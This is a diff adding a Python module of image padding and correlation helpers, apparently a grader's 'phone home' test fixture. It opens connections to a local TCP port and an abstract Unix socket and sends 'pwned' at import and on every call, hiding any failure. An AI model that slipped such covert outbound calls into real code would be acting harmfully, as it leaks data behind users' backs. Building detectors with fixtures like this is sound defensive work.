@@ -1,0 +1,51 @@
+"""Hostile: phone home. The test listens on TCP port @@PORT@@ of 127.0.0.1 and on the abstract
+Unix socket "@@ABSTRACT@@"; the module sends b"pwned" to both at import and in every call, and
+still works when it cannot connect; otherwise correct."""
+
+import socket
+
+import numpy as np
+from numpy.lib.stride_tricks import sliding_window_view
+
+
+def phone_home():
+    try:  # hostile: TCP to the grader's machine
+        with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=0.5) as connection:
+            connection.sendall(b"pwned")
+    except OSError:
+        pass
+    try:  # hostile: an abstract Unix socket (no file needed, shared per network namespace)
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
+            connection.settimeout(0.5)
+            connection.connect("\0@@ABSTRACT@@")
+            connection.sendall(b"pwned")
+    except OSError:
+        pass
+
+
+phone_home()
+
+
+def same_padding(n, kernel_size, stride=1):
+    phone_home()
+    total = max((-(-n // stride) - 1) * stride + kernel_size - n, 0)
+    return total // 2, total - total // 2
+
+
+def zero_pad(image, pads):
+    phone_home()
+    image = np.asarray(image, dtype=float)
+    (top, bottom), (left, right) = pads
+    if min(top, bottom, left, right) < 0:
+        raise ValueError(f"pads must be non-negative, got {pads}")
+    return np.pad(image, [(top, bottom), (left, right)] + [(0, 0)] * (image.ndim - 2))
+
+
+def correlate2d_padded(image, kernel, padding="valid"):
+    phone_home()
+    if padding not in ("valid", "same"):
+        raise ValueError(f"unknown padding {padding!r}")
+    image, kernel = np.asarray(image, dtype=float), np.asarray(kernel, dtype=float)
+    if padding == "same":
+        image = zero_pad(image, [same_padding(image.shape[i], kernel.shape[i]) for i in (0, 1)])
+    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)
